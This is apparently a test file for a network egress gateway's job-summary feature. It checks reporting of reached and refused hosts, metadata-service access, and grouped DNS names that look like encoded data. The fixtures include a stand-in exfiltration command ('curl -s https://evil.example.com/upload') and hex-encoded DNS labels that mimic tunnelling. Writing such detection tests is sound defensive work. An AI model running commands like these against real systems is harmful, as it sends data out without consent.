import { readFileSync } from 'node:fs'
import t from 'tap'
import { parse } from 'yaml'
import { JobSummary } from '../../../gateway/record/job-summary.ts'
import { redactEvent } from '../../../gateway/record/redact.ts'
import { refusedName, sample, summarise } from './summarise.ts'

const asker = { pid: 1, exe: '/usr/bin/node', command: 'node ask.js', uid: 0, parents: [] }

function refusedRow(host: string): object | undefined {
  return sample.refused.find(refused => refused.host === host)
}

await t.test('summary(): tells what was reached, by whom', async t => {
  t.match(sample.reached[0], {
    host: 'npm.acme.example',
    ports: [443],
    requests: 3,
    lookups: 1,
    methods: { GET: 3 },
    bytesReceived: 4_500_000,
    processes: ['node npm install'],
  })
})

await t.test('summary(): tells what was refused and why, with the line that would allow it', async t => {
  t.match(refusedRow('api.example.net'), {
    reason: 'method',
    example: 'POST /gists',
    allow: ['POST https://api.example.net/gists'],
  })
  t.match(refusedRow('evil.example.com'), { reason: 'no-rule', lookups: 1, allow: ['evil.example.com'] })
  t.match(refusedRow('198.51.100.9'), {
    reason: 'address-literal',
    allow: [],
    processes: ['curl -s https://evil.example.com/upload ← dash ← node'],
  })
})

await t.test('summary(): metadata services are a finding, and no line is offered for them', async t => {
  t.match(sample.findings, [{ kind: 'metadata-access', host: '169.254.169.254' }])
  t.same(sample.refused.find(row => row.host === '169.254.169.254')?.allow, [])
})

await t.test('summary(): a client that refuses our certificates is a finding with a tls:// line', async t => {
  t.match(sample.findings[1], {
    kind: 'client-refused-ca',
    host: 'pinned.example.org',
    allow: 'tls://pinned.example.org',
  })
  t.ok(sample.suggestions.includes('tls://pinned.example.org'))
})

await t.test('summary(): a flood of names under one domain is one row without a suggestion', async t => {
  const rows = sample.refused.filter(row => row.host.endsWith('tunnel.example'))
  t.match(rows, [{ host: '**.tunnel.example', names: 60, lookups: 60, allow: [] }])
  t.equal(rows.length, 1)
})

await t.test('summary(): names below one that look like data are one row', async t => {
  const asked = [
    '6162636465666768696a.x.example.com',
    '3031323334353637.x.example.com',
    'mzxw6ytboi5dinzt2v4q.x.example.com',
  ]
  const { refused } = summarise(asked.map(host => refusedName(host, { process: asker })))
  t.match(refused, [{ host: '**.x.example.com', names: 3, lookups: 3, allow: [], processes: ['node ask.js'] }])
  t.equal(refused.length, 1)
})

await t.test('summary(): two of them, or names of words, are rows of their own', async t => {
  const words = ['productionresultssa10', 'productionresultssa11', 'productionresultssa12']
  const hosts = ['6162636465666768696a', '3031323334353637', ...words].map(label => `${label}.x.example.com`)
  t.equal(summarise(hosts.map(host => refusedName(host))).refused.length, hosts.length)
})

await t.test('summary(): nobody is led to open what a thief would use', async t => {
  const [exfiltration] = parse(
    readFileSync(new URL('../../../gateway/policy/presets/known-exfiltration.yaml', import.meta.url), 'utf8'),
  ).forbid
  for (const host of [exfiltration.to, '6162636465666768696a.example.com', 'vm'])
    t.same(summarise([refusedName(host)]).suggestions, [], host)
  t.same(summarise([refusedName('shop.example.com')]).suggestions, ['shop.example.com'])
})

await t.test('summary(): what was carried unread is told', async t => {
  t.match(sample.unseen, [{ host: 'git.example.org', port: 22, protocol: 'tcp', connections: 1, bytesSent: 9_000 }])
})

await t.test('summary(): failures are no refusals', async t => {
  t.match(sample.failures, [{ error: 'UPSTREAM_TIMEOUT', host: 'slow.example.org', count: 1 }])
})

await t.test('summary(): a line for repeats of a question counts them all', async t => {
  const { totals } = summarise([
    { layer: 'dns', startedAt: 0, host: 'a.test', verdict: 'allow', reason: 'rule', packets: 40 },
  ])
  t.equal(totals.lookups, 40)
})

await t.test('JobSummary: a flood of names, hosts, processes and methods does not grow it without end', async t => {
  const summary = new JobSummary('flood')
  for (let index = 0; index < 30_000; index += 1) {
    const process = { pid: index, exe: `/tmp/${index}`, command: `cmd${index}`, uid: 0, parents: [] }
    summary.write(
      redactEvent({
        layer: 'http',
        startedAt: index,
        host: `h${index}.h${index}.example`,
        method: `M${index}`,
        port: index,
        verdict: 'deny',
        reason: 'no-rule',
        process,
        error: 'UPSTREAM_TIMEOUT',
      }),
    )
    summary.write(
      redactEvent({
        layer: 'tls',
        startedAt: index,
        host: `h${index}.test`,
        port: index,
        verdict: 'allow',
        reason: 'rule',
      }),
    )
  }
  const { refused, reached, unseen, processes, failures, omitted, totals } = summary.summary({
    state: 'open',
    lines: 0,
    lost: 0,
  })
  t.ok(
    refused.length <= 1_000 &&
      reached.length <= 2_000 &&
      unseen.length <= 500 &&
      processes.length <= 500 &&
      failures.length <= 200,
  )
  t.ok(omitted.refused > 0 && omitted.reached > 0 && omitted.processes > 0, 'what did not fit is counted')
  t.match(totals.flows, { allow: 30_000, deny: 30_000 })
  t.ok(JSON.stringify({ refused, reached, unseen, processes, failures }).length < 2_000_000)
})
